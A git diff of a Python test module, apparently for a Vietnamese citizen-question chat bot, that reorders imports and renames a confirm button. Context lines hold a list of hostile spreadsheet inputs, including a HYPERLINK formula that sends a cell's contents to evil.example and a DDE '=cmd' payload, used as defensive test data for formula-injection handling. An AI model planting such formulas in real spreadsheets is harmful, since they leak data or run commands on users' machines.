@@ -10,11 +10,11 @@ from docx import Document
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from handlers.calendar import session_ics
-from handlers.official_docs import Heading, Meeting, minutes, notice
-from handlers.session_report import Row, workbook
+from handlers.conclusions.official_docs import Heading, Meeting, minutes, notice
+from handlers.conclusions.session_report import Row, workbook
+from handlers.sessions.calendar import session_ics
 from storage.models import Question
-from tests.support import Chat, add_commune, make_deps, register, start_question
+from tests.fixtures import Chat, add_commune, make_deps, register, start_question
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84912345678", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1", "Tên\x0bcó\x00ký tự\x1blạ"]
@@ -65,6 +65,6 @@ async def test_control_characters_and_broken_unicode_in_a_question_are_dropped_n
     await start_question(chat)
     review = await chat.send("Câu\x00 hỏi\x0b có \ud800ký tự\r\nlạ\rnữa")
     assert "check your question" in review
-    assert "TT-0001" in await chat.press("ask:confirm")
+    assert "TT-0001" in await chat.press("Send")
     async with db.unit_of_work() as uow:
         assert await uow.session.scalar(select(Question.text)) == "Câu hỏi có ký tự\nlạ\nnữa"
